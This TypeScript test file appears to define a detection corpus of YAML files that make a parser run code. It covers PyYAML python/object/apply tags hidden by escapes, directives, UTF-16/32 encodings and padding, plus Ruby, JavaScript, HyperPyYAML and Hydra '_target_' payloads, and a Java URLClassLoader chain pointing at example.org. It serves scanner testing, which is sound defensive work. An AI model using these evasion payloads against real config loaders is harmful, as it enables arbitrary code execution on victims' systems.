/** YAML that makes the program that reads it call something, by every way to write that, and sound YAML. */
import type { CorpusCase } from './corpus-case.ts'

const RUNS_CODE = ['yaml-runs-code']
const bad = (name: string, content: string | Uint8Array, why: string, published?: string): CorpusCase => ({
  name: `yaml-${name}`,
  kind: 'malicious',
  files: { 'config.yaml': Buffer.from(content as string) },
  expects: RUNS_CODE,
  why,
  ...(published === undefined ? {} : { published }),
})

const apply = '!!python/object/apply:os.system ["id"]\n'
const withMark = (text: string, littleEndian: boolean): Buffer => {
  const wide = Buffer.from(`\ufeff${text}`, 'utf16le')
  return littleEndian ? wide : wide.swap16()
}
const utf32 = (text: string): Buffer => {
  const wide = Buffer.alloc(4 * text.length)
  for (let i = 0; i < text.length; i++) wide.writeUInt32LE(text.charCodeAt(i), 4 * i)
  return Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), wide])
}

export const yamlCases: readonly CorpusCase[] = [
  bad('python', `model: ${apply}`, 'Names a function of Python.', 'CVE-2020-1747'),
  bad('python-verbatim', 'a: !<tag:yaml.org,2002:python/name:os.system> ""\n', 'The tag written out.'),
  bad(
    'python-directive',
    '%TAG ! tag:yaml.org,2002:\n---\n!python/object/apply:os.system ["id"]\n',
    'A directive gives another tag its meaning.',
  ),
  bad('python-escaped', '!!pyth%6fn/object/apply:os.system ["id"]\n', 'The tag with an escape.'),
  bad(
    'python-directive-escaped',
    '%TAG !x! tag:yaml%2Eorg,2002:pyth%6Fn/\n---\n!x!object/apply:os.system ["id"]\n',
    'Both.',
  ),
  bad(
    'python-prefix-of-before',
    '%YAML 1.1\n%TAG !! tag:example.org,2000:\n---\na\n---\n!!pyth%6fn/object/apply:os.system ["id"]\n',
    'A directive of the document before, which some readers forget.',
  ),
  bad('python-far', `# ${'x'.repeat(4 * 1024 * 1024)}\n${apply}`, 'Behind a comment of 4 MiB.'),
  bad('python-utf-16', withMark(apply, true), 'In UTF-16.'),
  bad(
    'python-utf-16-be',
    withMark('!!pyth%6fn/object/apply:os.system ["id"]\n', false),
    'In UTF-16 the other way round, with an escape.',
  ),
  bad('python-utf-32', utf32('!!pyth%6fn/object/new:os.system ["id"]\n'), 'In UTF-32.'),
  bad('python-as-key', '? !!pyth%6fn/name:os.system ""\n: 1\n', 'A key is computed too.'),
  bad(
    'python-line-end',
    '# a comment\u2028!!pyth%6fn/object/apply:os.system ["id"]\n',
    'A comment that ends earlier for PyYAML than for others.',
  ),
  bad(
    'python-second-document',
    'a: 1\n---\nb: 2\n...\n---\n!!pyth%6fn/object/apply:os.system ["id"]\n',
    'In a document further on.',
  ),
  bad('ruby', '--- !ruby/object:Gem::Installer\ni: x\n', 'An object of Ruby.', 'CVE-2013-0156'),
  bad(
    'java',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.org/"]]]]\n',
    'A class of Java.',
    'CVE-2022-1471',
  ),
  bad('javascript', 'toString: !!js/function "function () { return process }"\n', 'A function of JavaScript.'),
  bad('speech-apply', 'x: !apply:os.system [id]\n', 'HyperPyYAML calls what follows the colon.'),
  bad('speech-new', 'x: !new:subprocess.Popen\n  args: id\n', 'HyperPyYAML makes an object.'),
  bad('speech-name', 'x: !name:os.system\n', 'HyperPyYAML imports what is named.'),
  bad('speech-module', 'x: !module:evil\n', 'HyperPyYAML imports a module.'),
  bad('speech-directive', '%TAG !e! !apply:\n---\nx: !e!os.system [id]\n', 'The same by a directive.'),
  bad('hydra', '_target_: os.system\ncommand: id\n', 'Hydra calls what _target_ names.', 'CVE-2025-23304'),
  bad('hydra-blanks', '_target_:\n        os.system\n', 'The name stands on the next line.'),
  bad('hydra-escaped', '"_targ\\x65t_": os.system\n', 'The key has an escape.'),
  bad('hydra-broken-key', '"_tar\\\n  get_": os.system\n', 'The key goes over two lines.'),
  bad('hydra-explicit', '? _target_\n: os.system\n', 'The key is marked as one.'),
  bad('hydra-alias', 'a: &k _target_\nb: &v builtins.exec\nc:\n  *k : *v\n', 'Key and value stand elsewhere.'),
  bad('hydra-flow', 'a: [{b: {"_target_":"torch.hub.load"}}]\n', 'A loader of code in a package that is known.'),
  bad('hydra-inner', '_target_: torch.serialization.os.system\n', 'A module of Python in a package that is known.'),
  bad('hydra-computed', `m: os\n_target_: \${m}.system\n`, 'A name that is only known when it is run.'),
  bad('hydra-standard', '_target_: webbrowser.open\n', 'A module of Python that nobody calls dangerous.'),
  {
    name: 'yaml-in-archive-name',
    kind: 'malicious',
    files: { 'conf/model.YML': Buffer.from('!!pyth%6fn/name:os.system ""\n') },
    expects: RUNS_CODE,
    why: 'The same by another extension.',
  },
  {
    name: 'clean-yaml',
    kind: 'clean',
    files: {
      'config.yaml': Buffer.from(
        'defaults: &d {lr: 1e-4, name: "a!b"}\nmodel:\n  <<: *d\n  layers: !!int "12"\n  note: !!str 3\n  pairs: !!omap [a: 1]\n  missing: ???\n_target_: ???\n',
      ),
      'labels.yml': Buffer.from(`labels:\n${'- a word\n'.repeat(100_000)}`),
      'template.yaml': Buffer.from('prompt: {{ system }}\n\tuser: {% if a %}b\n'),
      'wide.yaml': withMark('title: Grüße\n', true),
      'twice.yaml': Buffer.from('a: 1\na: "\\u00e9"\n'),
      'empty.yaml': Buffer.alloc(0),
    },
    expects: [],
    why: 'Anchors, plain tags, a key twice, long lists, UTF-16, and text for another program that is not quite YAML.',
  },
]
